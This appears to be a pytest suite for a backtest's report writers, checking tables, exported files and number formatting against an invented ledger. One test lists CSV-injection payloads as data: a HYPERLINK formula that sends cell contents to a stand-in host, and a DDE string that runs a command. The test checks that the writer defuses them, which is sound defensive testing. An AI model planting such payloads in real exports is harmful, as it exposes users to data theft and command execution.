"""Report tables and files from a hand-made ledger (invented numbers; see reports_fixtures.py)."""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import reports_fixtures as rf
from backtest.engine.ledger import TRADE_COLUMNS, SimConfig
from backtest.reports.build import build_report, write_report
from backtest.reports.tables import spearman
from backtest.reports.writers import frame_to_csv


@pytest.fixture(scope="module")
def report():
    return build_report(rf.ledger(), rf.table(), portfolio=rf.FakePortfolio(),
                        run_meta={"id": "test-run"})


def rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_trades_keep_documented_columns_and_publication_order(report):
    assert list(report.trades.columns[: len(TRADE_COLUMNS)]) == list(TRADE_COLUMNS)
    assert list(report.trades["setup_id"]) == ["bull-1", "bull-2", "bull-3", "bear-1", "bear-2", "pair-1"]


def test_trades_csv_formatting(report):
    table = {r["setup_id"]: r for r in rows(frame_to_csv(report.trades))}
    assert table["bull-1"]["targets"] == "110;120"
    assert table["bull-1"]["return_pct"] == "8.910891"  # rounded to 6 places
    assert table["bull-1"]["entry_time"] == "2026-02-11T00:00:00"  # a session date
    assert table["bull-1"]["published"] == "2026-02-09T14:00:00+00:00" and table["bear-1"]["exit_reason"] == "end-of-data"
    assert table["bull-2"]["ambiguous"] == "true"
    assert table["bull-3"]["entry_time"] == "" and table["bull-3"]["reason"].startswith("no bars for ZZZ")
    assert table["bear-2"]["entry_level"] == "500" and "900%" in table["bear-2"]["reason"]
    assert table["pair-1"]["symbol"] == "SPY/BBB" and table["pair-1"]["long_symbol"] == "SPY"


def test_articles_aggregate_entered_trades_only(report):
    art = report.articles.set_index("article_id")
    bull = art.loc["art-bull"]
    # bull-1 +8.91 (win), bull-2 -10 (loss); bull-3 no-data does not count as entered.
    assert (bull["setups"], bull["filled"], bull["wins"], bull["losses"]) == (3, 2, 1, 1)
    assert bull["total_return_pct"] == pytest.approx(8.910891089108912 - 10.0)
    assert bull["mean_r"] == pytest.approx(0.25)
    assert bull["call_excess_pct_20d"] == pytest.approx(-2.0)
    bear = art.loc["art-bear"]
    # bear-1 open +4 (win), pair-1 -2.5 (loss); bear-2 rejected.
    assert (bear["filled"], bear["wins"], bear["losses"]) == (2, 1, 1)
    assert bear["mean_return_pct"] == pytest.approx(0.75)
    flat = art.loc["art-flat"]
    assert flat["setups"] == 0 and pd.isna(flat["hit_rate"])


def test_stances_has_all_three_and_all(report):
    st = report.stances.set_index("stance")
    assert list(st.index) == ["bullish", "bearish", "neutral", "all"]
    assert st.loc["neutral", "articles"] == 1 and st.loc["neutral", "setups"] == 0
    assert st.loc["all", "filled"] == 4 and st.loc["all", "hit_rate"] == pytest.approx(0.5)
    assert st.loc["all", "median_return_pct"] == pytest.approx(0.75)  # median of -10, -2.5, 4, 8.91
    assert st.loc["bearish", "call_hit_rate_1d"] == 0.0 and st.loc["bearish", "call_mean_excess_pct_60d"] == 3.0
    # Pulse 70 for both bull trades, 30 for both bear ones: ranks tie within article.
    assert st.loc["all", "pulse_n_return"] == 4
    assert st.loc["bullish", "pulse_n_return"] == 2 and pd.isna(st.loc["bullish", "pulse_rho_return"])


def test_spearman():
    assert spearman([1, 2, 3, 4], [10, 20, 30, 40]) == (pytest.approx(1.0), 4)
    assert spearman([1, 2, 3, 4], [4, 3, 2, 1]) == (pytest.approx(-1.0), 4)
    assert spearman([1, 2, None, 4], [1, 2, 3, None]) == (None, 2)
    assert spearman([5, 5, 5], [1, 2, 3]) == (None, 3)


def test_summary_totals_bounds_and_counts(report):
    s = report.summary
    assert s["counts"] == {"articles": 3, "setups": 6, "skipped": 1,
                           "by_status": {"filled": 3, "no-data": 1, "open": 1, "rejected": 1}}
    t = s["totals"]
    assert t["ambiguous_trades"] == 1
    # bull-2 is the ambiguous one: -10 stop-first, +30 target-first; the others agree in both bounds.
    assert t["total_return_pct_target_first"] - t["total_return_pct_stop_first"] == pytest.approx(40.0)
    assert s["data"]["missing"] == {"ZZZ": "not in any source (cache, mirror)"}
    assert [c["symbol"] for c in s["data"]["coverage"]] == ["AAA", "BBB", "SPY"]
    assert s["portfolio"]["sharpe"] == 1.1
    assert report.problems == 3  # ZZZ skipped + bull-3 no-data + bear-2 rejected


def test_costs_in_summary():
    led = rf.ledger(SimConfig(commission_bps=3.0, slippage_bps=2.0, ambiguity="target-first"))
    s = build_report(led, rf.table()).summary
    assert s["config"]["costs_bps_per_side"] == 5.0 and s["config"]["ambiguity"] == "target-first"
    assert s["portfolio"] is None


def test_write_all_formats(report, tmp_path):
    written = write_report(report, tmp_path, ("csv", "parquet", "json", "md", "html"))
    assert written == sorted(["articles.csv", "calls.csv", "equity.csv", "event_study.csv", "exits.csv", "pulse.csv", "scorecard.csv", "scorecard_differences.csv", "scorecard_trades.csv", "stances.csv", "trades.csv"] + ["report.html", "report.md", "summary.json", "trades.parquet"])
    parquet = pd.read_parquet(tmp_path / "trades.parquet")
    assert list(parquet.columns) == list(report.trades.columns)
    assert parquet["return_pct"].dtype == "float64" and parquet.loc[0, "targets"] == "110;120"
    summary = json.loads((tmp_path / "summary.json").read_text())
    assert summary["run"] == {"id": "test-run"}
    md = (tmp_path / "report.md").read_text()
    assert len(md.splitlines()) < 50 and "stop-first" in md and "| bearish |" in md
    # the top answers the question: the scorecard first, then the portfolio's return on capital (the headline);
    # a sum of trade returns appears only labelled as one
    assert md.index("Did bullish or bearish") < md.index("return on capital") < md.index("sum of trade returns")
    assert "total return" not in md
    assert "+5.00% return on capital" in md  # the fake book: P&L 10 on capital 200
    html = (tmp_path / "report.html").read_text()
    assert "<script src=" not in html and "<link" not in html  # self-contained: plotly.js is inlined
    for div in ("chart-event-study", "chart-stances", "chart-pulse", "chart-equity"):
        assert f'id="{div}"' in html
    assert 'id="article-data"' in html and html.index('id="scorecard"') < html.index('id="headline"')
    assert "900% from the last close" in html  # refused setup with its reason


def test_only_requested_formats(report, tmp_path):
    assert write_report(report, tmp_path, ("csv",)) == ["articles.csv", "calls.csv", "equity.csv", "event_study.csv", "exits.csv", "pulse.csv", "scorecard.csv", "scorecard_differences.csv", "scorecard_trades.csv", "stances.csv", "trades.csv"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["articles.csv", "calls.csv", "equity.csv", "event_study.csv", "exits.csv", "pulse.csv", "scorecard.csv", "scorecard_differences.csv", "scorecard_trades.csv", "stances.csv", "trades.csv"]


def test_rendering_is_deterministic(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    for target in (a, b):
        target.mkdir()
        rep = build_report(rf.ledger(), rf.table(), portfolio=rf.FakePortfolio(),
                           run_meta={"id": "same"})
        write_report(rep, target, ("csv", "json", "md", "html"))
    for name in ("trades.csv", "articles.csv", "stances.csv", "scorecard.csv", "event_study.csv", "summary.json",
                 "report.md", "report.html"):
        assert (a / name).read_bytes() == (b / name).read_bytes(), name


def test_open_without_entry_is_a_working_order_not_a_trade():
    led = rf.ledger()
    trades = led.trades.copy()
    row = trades.index[trades["setup_id"] == "bear-2"][0]
    trades.loc[row, ["status", "reason"]] = ["open", None]  # the limit order is still working
    led.trades = trades
    rep = build_report(led, rf.table())
    bear = rep.articles.set_index("article_id").loc["art-bear"]
    assert (bear["setups"], bear["filled"]) == (3, 2)
    assert rep.summary["counts"]["by_status"]["open"] == 2


def test_markdown_lists_refusals(report, tmp_path):
    write_report(report, tmp_path, ("md",))
    md = (tmp_path / "report.md").read_text()
    assert "- rejected `bear-2`: entry 500 is 900%" in md
    assert "- no-data `bull-3`" in md and "- skipped: ZZZ: no bars in any source" in md


def test_article_data_holds_every_article_levels_in_both_bases_and_every_fill():
    """report.html draws every article on demand from this compact data: articles, setups (pair legs' entry
    prices), levels as written and in the bars' basis, pair-leg exit fills, bars only for traded symbols."""
    import json

    from backtest.reports.article_data import article_payload

    rep = build_report(rf.ledger(), rf.table())
    data = json.loads(json.dumps(article_payload(rep), allow_nan=False))  # JSON-clean, no NaN
    articles, setups = data["articles"], data["setups"]
    assert articles["id"] == list(rep.meta["article_id"])
    day = lambda n: (pd.Timestamp(0) + pd.Timedelta(days=n)).strftime("%Y-%m-%d")  # noqa: E731
    assert day(articles["day"][articles["id"].index("art-bull")]) == "2026-02-09"
    i = setups["id"].index("bull-1")
    assert data["symbols"][setups["sym"][i]] == "AAA" and setups["dir"][i] == 1
    bull = articles["id"].index("art-bull")
    mine = range(sum(articles["n"][:bull]), sum(articles["n"][:bull + 1]))
    assert i in mine and len(mine) == (rep.trades["article_id"] == "art-bull").sum()
    assert data["statuses"][setups["st"][i]] == "filled"
    row = rep.trades.set_index("setup_id").loc["bull-1"]
    assert day(articles["day"][bull] + setups["ed"][i]) == str(row["entry_time"])[:10]
    assert day(articles["day"][bull] + setups["ed"][i] + setups["xd"][i]) == str(row["exit_time"])[:10]
    first = sum(setups["nl"][:i])
    names = data["levels"]["n"][first:first + setups["nl"][i]]
    written = data["levels"]["w"][first:first + setups["nl"][i]]
    assert list(zip(names, written))[:4] == [(0, 101), (1, 95), (3, 110), (4, 120)]  # entry, stop, target 1, target 2
    assert data["levels"]["moved"] == []  # no split in the fixture: the bars' basis is the written one
    p = setups["id"].index("pair-1")
    assert setups["dir"][p] == 0 and [data["symbols"][k] for k in setups["sym"][p]] == ["SPY", "BBB"]
    assert setups["ep"][p] == 600 and data["setups"]["p2"][data["setups"]["p2s"].index(p)] == 50
    legs = [(data["legs"]["leg"][k], day(data["legs"]["d"][k]), data["legs"]["p"][k])
            for k, s in enumerate(data["legs"]["s"]) if s == p]
    assert (1, "2026-04-29", 51.75) in legs  # the short leg's exit fill
    assert set(data["bars"]) == {"AAA", "BBB", "SPY"}
    aaa = data["bars"]["AAA"]
    assert len(aaa["day"]) == len(aaa["o"]) == len(aaa["c"]) and day(aaa["day"][0]) >= "2026-01-12"


@pytest.mark.parametrize("with_missing", [False, True])
def test_parquet_times_are_their_csv_strings(tmp_path, with_missing):
    """Time columns are ISO strings in parquet whether or not they hold a NaT (never epoch numbers)."""
    from backtest.reports.writers import frame_to_parquet

    days = pd.Series(pd.to_datetime(["2026-02-10", "2026-02-11"]).as_unit("ns"))
    if with_missing:
        days = pd.Series(pd.to_datetime(["2026-02-10", None]).as_unit("ns"))
    frame = pd.DataFrame({"setup_id": ["a", "b"], "entry_time": days, "exit_time": days.astype(object),
                          "first_session": days, "ref_date": days, "return_pct": [1.5, None]})
    frame_to_parquet(frame, tmp_path / "t.parquet")
    back = pd.read_parquet(tmp_path / "t.parquet")
    csv_rows = rows(frame_to_csv(frame))
    for column in ("entry_time", "exit_time", "first_session", "ref_date"):
        assert [v if isinstance(v, str) else "" for v in back[column]] == [r[column] for r in csv_rows], column
        assert back[column].iloc[0] == "2026-02-10T00:00:00"
    assert back["return_pct"].dtype == "float64"


def test_neutral_calls_are_reported_but_not_counted_in_all():
    """A neutral call has its own row; the ``all`` row and its Pulse-vs-excess use directional calls only."""
    led = rf.ledger()
    neutral = [{"article_id": "art-flat", "stance": "neutral", "symbol": "SPY", "direction": "neutral", "horizon": h,
                "start_time": pd.Timestamp("2026-03-03"), "start_price": 600.0, "end_time": pd.Timestamp("2026-04-01"),
                "end_price": 660.0, "return_pct": 10.0, "benchmark_return_pct": 0.0, "excess_pct": 10.0, "hit": None,
                "primary": True} for h in (1, 5, 20, 60)]
    led.calls = pd.concat([led.calls, pd.DataFrame(neutral)], ignore_index=True)
    st = build_report(led, rf.table()).stances.set_index("stance")
    assert st.loc["neutral", "calls_20d"] == 1 and st.loc["neutral", "call_mean_excess_pct_20d"] == pytest.approx(10.0)
    assert st.loc["neutral", "pulse_n_excess"] == 1
    # bullish -1 - 1 = -2 excess, bearish 2.5 - 1 = +1.5; the neutral +10 stays out
    assert st.loc["all", "calls_20d"] == 2
    assert st.loc["all", "call_mean_excess_pct_20d"] == pytest.approx(-0.25)
    assert st.loc["all", "pulse_n_excess"] == 2


def test_fixture_ledger_has_the_engine_shapes():
    """The hand-made ledger uses the engine's dtypes and vocabulary, so the report tests test real inputs."""
    from backtest.engine import simulate

    fake, real = rf.ledger(), simulate(rf.table(), rf.barset(), SimConfig())
    for column in ("entry_time", "exit_time", "first_session", "ref_date"):
        assert fake.trades[column].dtype == real.trades[column].dtype == "datetime64[ns]", column
        days = fake.trades[column].dropna()
        assert (days == days.dt.normalize()).all() and days.dt.tz is None, column
    assert fake.exits["time"].dtype == real.exits["time"].dtype
    assert list(fake.exits.columns) == list(real.exits.columns)
    reasons = set(fake.trades["exit_reason"].dropna()) | set(fake.exits["reason"])
    assert reasons <= {"stop", "time", "end-of-data", "target1", "target2"}
    assert set(fake.trades.loc[fake.trades["status"] == "open", "exit_reason"]) == {"end-of-data"}
    assert set(real.trades.loc[real.trades["status"] == "open", "exit_reason"]) <= {"end-of-data"}
    # every entered trade's tranches add up to the whole position
    assert fake.exits.groupby(["setup_id", "leg"])["fraction"].sum().eq(1.0).all()


def test_csv_neutralises_formula_text_but_keeps_numbers_and_raw_json(tmp_path):
    """OWASP CSV injection: text cells starting with = + - @ tab CR get a leading quote; numbers do not."""
    import pyarrow.parquet as pq

    from backtest.reports.writers import frame_to_csv, frame_to_parquet, to_json

    hostile = ['=HYPERLINK("http://x/"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB", "\rCR", "plain"]
    frame = pd.DataFrame({"title": hostile, "return_pct": [-2.5, 1.0, -0.1, 0.0, 3.0, -1.0, 2.0]})
    rows = list(csv.DictReader(io.StringIO(frame_to_csv(frame), newline="")))
    assert len(rows) == len(hostile)  # a CR in a cell does not end the row
    assert [r["title"] for r in rows][:5] == ["'" + h for h in hostile[:5]] and rows[6]["title"] == "plain"
    assert rows[5]["title"] == "'\nCR"
    assert [r["return_pct"] for r in rows][:3] == ["-2.5", "1", "-0.1"]  # numbers stay numbers
    frame_to_parquet(frame, tmp_path / "t.parquet")
    assert pq.read_table(tmp_path / "t.parquet").column("title").to_pylist() == hostile
    assert json.loads(to_json({"titles": hostile}))["titles"] == hostile


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.floats(-1e-3, 1e-3),
                          st.floats(-1e-6, 1e-6), st.integers(-10**7, 10**7).map(lambda i: i / 2e6)), max_size=40))
def test_vectorized_float_column_writes_what_the_cell_formatter_writes(values):
    """The column fast path (every CSV float column) equals the one-cell rule, tiny and tie values included."""
    from backtest.reports.writers import _cell, float_cells

    assert float_cells(np.array(values, dtype=np.float64)) == [_cell(v) for v in values]


def test_tiny_values_keep_six_significant_digits_in_a_csv_column():
    from backtest.reports.writers import frame_to_csv

    text = frame_to_csv(pd.DataFrame({"x": [2.4e-07, 2.52e-07, -1.234567e-05, 0.0123456789, 0.5]}))
    assert text.splitlines()[1:] == ["2.4e-07", "2.52e-07", "-1.23457e-05", "0.0123457", "0.5"]


def test_csv_text_is_what_the_csv_module_writes(tmp_path):
    """frame_to_csv joins the cells itself (faster than csv.writer at 100k rows): the quoting is the csv
    module's minimal quoting, byte for byte, on text with commas, quotes, line breaks, empty cells; and
    the float cells are each value's shortest repr whether a column has few values or many repeated ones."""
    import random

    from backtest.reports.writers import column_cells

    rng = random.Random(5)
    pieces = ["a", ",", '"', "\n", "\r", " ", "", "x,y", '"q"', "é", "=1", "-2", "\t"]
    text = ["".join(rng.choice(pieces) for _ in range(rng.randrange(0, 4))) for _ in range(400)]
    numbers = [rng.choice([0.1, -0.25, 1e-5, 2.0, 1e16, 123.456789, float("nan"), 0.3333333333333333])
               * rng.choice([1, 1, -1, 3]) for _ in range(400)]
    frame = pd.DataFrame({"title": text, "return_pct": numbers, "empty": [""] * 400})
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(list(frame.columns))
    writer.writerows(zip(*(column_cells(frame[c], csv=True) for c in frame.columns)))
    assert frame_to_csv(frame) == out.getvalue()
    assert frame_to_csv(frame[["empty"]]) == '\n'.join(['empty'] + ['""'] * 400) + "\n"  # one column: csv module
    from backtest.reports.writers import _float_cell  # the one-cell rule

    assert column_cells(frame["return_pct"], csv=True) == [_float_cell(v) for v in numbers]
    assert len({v for v in numbers if v == v}) < 64 < len(numbers)  # few distinct values, many cells: the unique path


def test_text_and_bool_columns_take_the_whole_column_path_with_the_cell_rules():
    """Text columns (with missing values, formula-like text, CRs) and bool columns are formatted a whole
    column at a time: every cell is what the one-cell rules (csv_cell for CSV, _cell otherwise) give."""
    import numpy as np

    from backtest.reports.writers import _cell, column_cells, csv_cell

    text = pd.Series(np.array(["plain", None, "=1+1", "a\rb", float("nan"), "-x", "ok, fine", "\tt", "é"] * 20,
                              dtype=object))
    clean = pd.Series(np.array(["plain", None, "words"] * 30, dtype=object))
    flags = pd.Series([True, False, True] * 30)
    for series in (text, clean, flags):
        assert column_cells(series, csv=True) == [csv_cell(v) for v in series], series.tolist()[:4]
        assert column_cells(series, csv=False) == [_cell(v) for v in series]


def test_best_and_worst_calls_are_distinct_directional_calls_best_first(report):
    from backtest.reports.calls import best_and_worst

    calls = report.calls
    got = best_and_worst(calls, report.ledger.config.horizons, count=1)
    horizon = got[0]["horizon"] if got else None
    expected = calls[(calls["horizon"] == horizon) & calls["primary"].astype(bool) & (calls["direction"] != "neutral")]
    expected = expected.dropna(subset=["excess_pct"]).sort_values("excess_pct", ascending=False)
    assert len(expected) >= 2, "the fixture has directional calls at that horizon"
    assert [g["article_id"] for g in got] == [expected.iloc[0]["article_id"], expected.iloc[-1]["article_id"]]
    assert [g["rank"] for g in got] == ["best", "worst"]  # labelled: the page and report.md say which is which


def test_best_and_worst_with_fewer_calls_than_both_lists_split_them_in_halves():
    """Two calls are one best and one worst (not two "best"); five are three best and two worst."""
    from backtest.reports.calls import best_and_worst

    def calls(excess):
        n = len(excess)
        return pd.DataFrame({
            "article_id": [f"a{i}" for i in range(n)], "stance": ["bullish"] * n, "symbol": [f"S{i}" for i in range(n)],
            "direction": ["long"] * n, "horizon": [20] * n,
            "start_time": pd.date_range("2026-02-02", periods=n, freq="7D"), "excess_pct": excess,
            "return_pct": excess, "primary": [True] * n})

    two = best_and_worst(calls([-2.6, -2.5]), (20,))
    assert [(r["rank"], r["excess_pct"]) for r in two] == [("best", -2.5), ("worst", -2.6)]
    five = best_and_worst(calls([1.0, 5.0, -3.0, 2.0, 0.5]), (20,))
    assert [(r["rank"], r["excess_pct"]) for r in five] == [("best", 5.0), ("best", 2.0), ("best", 1.0),
                                                              ("worst", 0.5), ("worst", -3.0)]
    seven = best_and_worst(calls([float(v) for v in range(7)]), (5, 20), count=3)
    assert [r["excess_pct"] for r in seven] == [6.0, 5.0, 4.0, 2.0, 1.0, 0.0]  # the middle one is neither
